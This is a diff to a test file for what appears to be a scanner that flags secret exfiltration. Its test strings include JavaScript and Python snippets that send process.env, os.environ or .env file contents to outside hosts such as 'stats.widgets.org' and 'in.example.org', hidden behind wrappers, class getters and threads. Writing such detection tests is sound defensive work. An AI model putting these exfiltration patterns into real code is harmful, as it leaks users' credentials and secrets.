@@ -418,7 +418,10 @@ test('a program or thread that is started is not made of the environment that it
 test('of a function that gives back what it gets, a call gets what it passes and not what others do', () => {
   const wait = 'async function wait(promise, signal) { if (!signal) return await promise; return await new Promise((done) => { promise.then(done) }) }';
   assert.equal(worst(`${wait} async function run() { await wait(open(process.env)); await wait(fetch(await wait(next(), s))) }`), 'nothing');
+  const abortable = 'async function wait(promise, signal) { return await new Promise((done, fail) => { signal.onabort = fail; promise.then((value) => { signal.onabort = null; done(value) }, fail) }) }';
+  assert.equal(worst(`${abortable} async function run() { await wait(open(process.env), s); await wait(fetch(await wait(next(), s)), s) }`), 'nothing');
   for (const code of [
+    `${abortable} const all = async () => process.env; async function run() { await wait(fetch(url, { body: await wait(all(), s) }), s) }`,
     `${wait} async function run() { await wait(fetch(url, { body: await wait(process.env) })) }`,
     'const same = (x) => x; const copy = same; fetch(url, { body: copy(process.env) })',
     'function filled(x) { x.all = process.env; return x } fetch(url, { body: filled({}) })',
@@ -458,4 +461,29 @@ test('in Python: all variables, handed to a function that sends them', () => {
   const send = 'import os, requests, threading\ndef ship(what, level=1):\n    requests.post("https://stats.widgets.org/v2", json=what)\n';
   for (const call of ['ship(dict(os.environ))', 'ship(level=2, what=dict(os.environ))', 'threading.Thread(target=ship, args=(dict(os.environ),)).start()']) assert.equal(worst(`${send}${call}\n`, 'a.py'), 'critical', call);
   for (const call of ['ship({"version": 1})', 'run(dict(os.environ))', 'ship(level=os.environ)']) assert.equal(worst(`${send}${call}\n`, 'a.py'), 'nothing', call);
+});
+
+test('bad: what methods and getters of a class answer', () => {
+  for (const code of [
+    'class A { get all() { return Object.entries(process.env) } send() { fetch(u, { body: JSON.stringify(this.all) }) } }',
+    'class A { #all() { return { ...process.env } } send() { fetch(u, { body: JSON.stringify(this.#all()) }) } }',
+    'class A { get context() { return process.env } start() { this.tell({ context: this.context }) } tell(what) { return fetch(this.address, { body: JSON.stringify(what) }) } }',
+  ]) assert.equal(worst(code), 'critical', code);
+  for (const code of [
+    'class A { get mode() { return process.env.NODE_ENV } send() { fetch(u, { body: this.mode }) } }',
+    'class A { get all() { return process.env } } class B { get all() { return [] } send() { fetch(u, { body: this.all }) } }',
+    'class A { get all() { return process.env } send() { fetch(u, { body: this.name }) } }',
+    `class A { get all() { return process.env } send() { fetch(u, { body: this.all }) } ${Array.from({ length: 100 }, (_, i) => `m${i}() {}`).join(' ')} }`,
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('bad: in Python, settings of a project over a connection that names its server', () => {
+  const send = (open: string, connect: string) => worst(`import glob, http.client, socket\n${open}\n${connect}\n`, 'a.py');
+  const http = 'c = http.client.HTTPSConnection("in.example.org", timeout=3)\nc.request("POST", "/", body)';
+  assert.equal(send('body = open(".env").read()', http), 'high');
+  assert.equal(send('body = "".join(open(p).read() for p in glob.glob(root + "/.env*"))', http), 'high');
+  assert.equal(send('body = open("/app/.env.local").read()', 's = socket.create_connection(("in.example.org", 443))\ns.sendall(body)'), 'high');
+  assert.equal(send('body = open(".env").read()', http.replace('"in.example.org"', 'settings.host')), 'nothing', 'to whom the settings say');
+  assert.equal(send('body = open(".env").read()', http.replace('in.example.org', 'localhost')), 'nothing');
+  assert.equal(send('body = open("data.json").read()', http), 'nothing');
 });
